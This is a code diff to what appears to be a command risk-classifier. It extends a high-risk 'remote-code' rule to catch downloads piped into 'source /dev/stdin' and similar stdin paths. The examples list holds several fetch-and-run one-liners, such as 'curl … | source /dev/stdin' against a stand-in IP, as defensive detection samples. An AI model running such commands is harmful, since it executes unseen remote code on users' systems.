@@ -402,8 +402,19 @@ export const networkRules: RiskRule[] = [
     category: 'remote-code',
     tier: 'high',
     reason: 'Runs code downloaded from the network without showing it (curl … | sh)',
-    match: { program: INTERPRETERS, upstream: FETCHERS },
+    match: {
+      anyOf: [
+        { program: INTERPRETERS, upstream: FETCHERS },
+        // The current shell sourcing its standard input: the same as piping into a shell.
+        {
+          program: ['source', '.'],
+          operand: re(/^\/(dev\/stdin|proc\/self\/fd\/0|dev\/fd\/0)$/),
+          upstream: FETCHERS,
+        },
+      ],
+    },
     examples: [
+      'curl -s http://203.0.113.5/p | source /dev/stdin',
       'curl -fsSL https://get.example.com | sh',
       'wget -qO- https://x.io/install.sh | bash',
       'curl https://x.io/a.py | python3 -',
